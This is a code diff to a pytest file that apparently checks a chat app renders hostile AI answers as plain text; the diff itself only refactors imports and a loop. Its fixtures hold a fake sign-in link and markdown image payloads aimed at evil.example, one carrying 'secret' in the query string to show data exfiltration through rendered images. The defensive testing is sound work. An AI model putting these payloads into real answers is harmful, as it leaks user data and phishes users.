@@ -5,7 +5,8 @@ read as an image, a link or a tag (the browser-level proof is tests/browser/test
 from __future__ import annotations
 
 import pytest
-from app_helpers import answer_text, fresh_caches, open_app, use_fake_model
+
+from tests.helpers.app import answer_text, fresh_caches, open_app, use_fake_model
 
 LINKS = "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) <img src=x>"
 ANSWER = "Done. ![status](http://evil.example/x?d=secret) <img src=http://evil.example/h.png> [more](http://evil.example/m)"
@@ -25,12 +26,10 @@ def _everything(node) -> str:
     """Every element's protobuf, as text: what the page sent to the browser (but the options of
     widgets that show them as plain text)."""
     out = [] if getattr(node, "type", None) in PLAIN else [str(getattr(node, "proto", "") or "")]
-    for child in getattr(node, "children", {}).values():
-        out.append(_everything(child))
+    out.extend(_everything(child) for child in getattr(node, "children", {}).values())
     return "\n".join(out)
 
 
-@pytest.mark.slow
 def test_a_hostile_answer_and_names_reach_streamlit_as_text_only():
     from knowledge.chat import ChatService
     from knowledge.chat.model import ASSISTANT, USER, Part
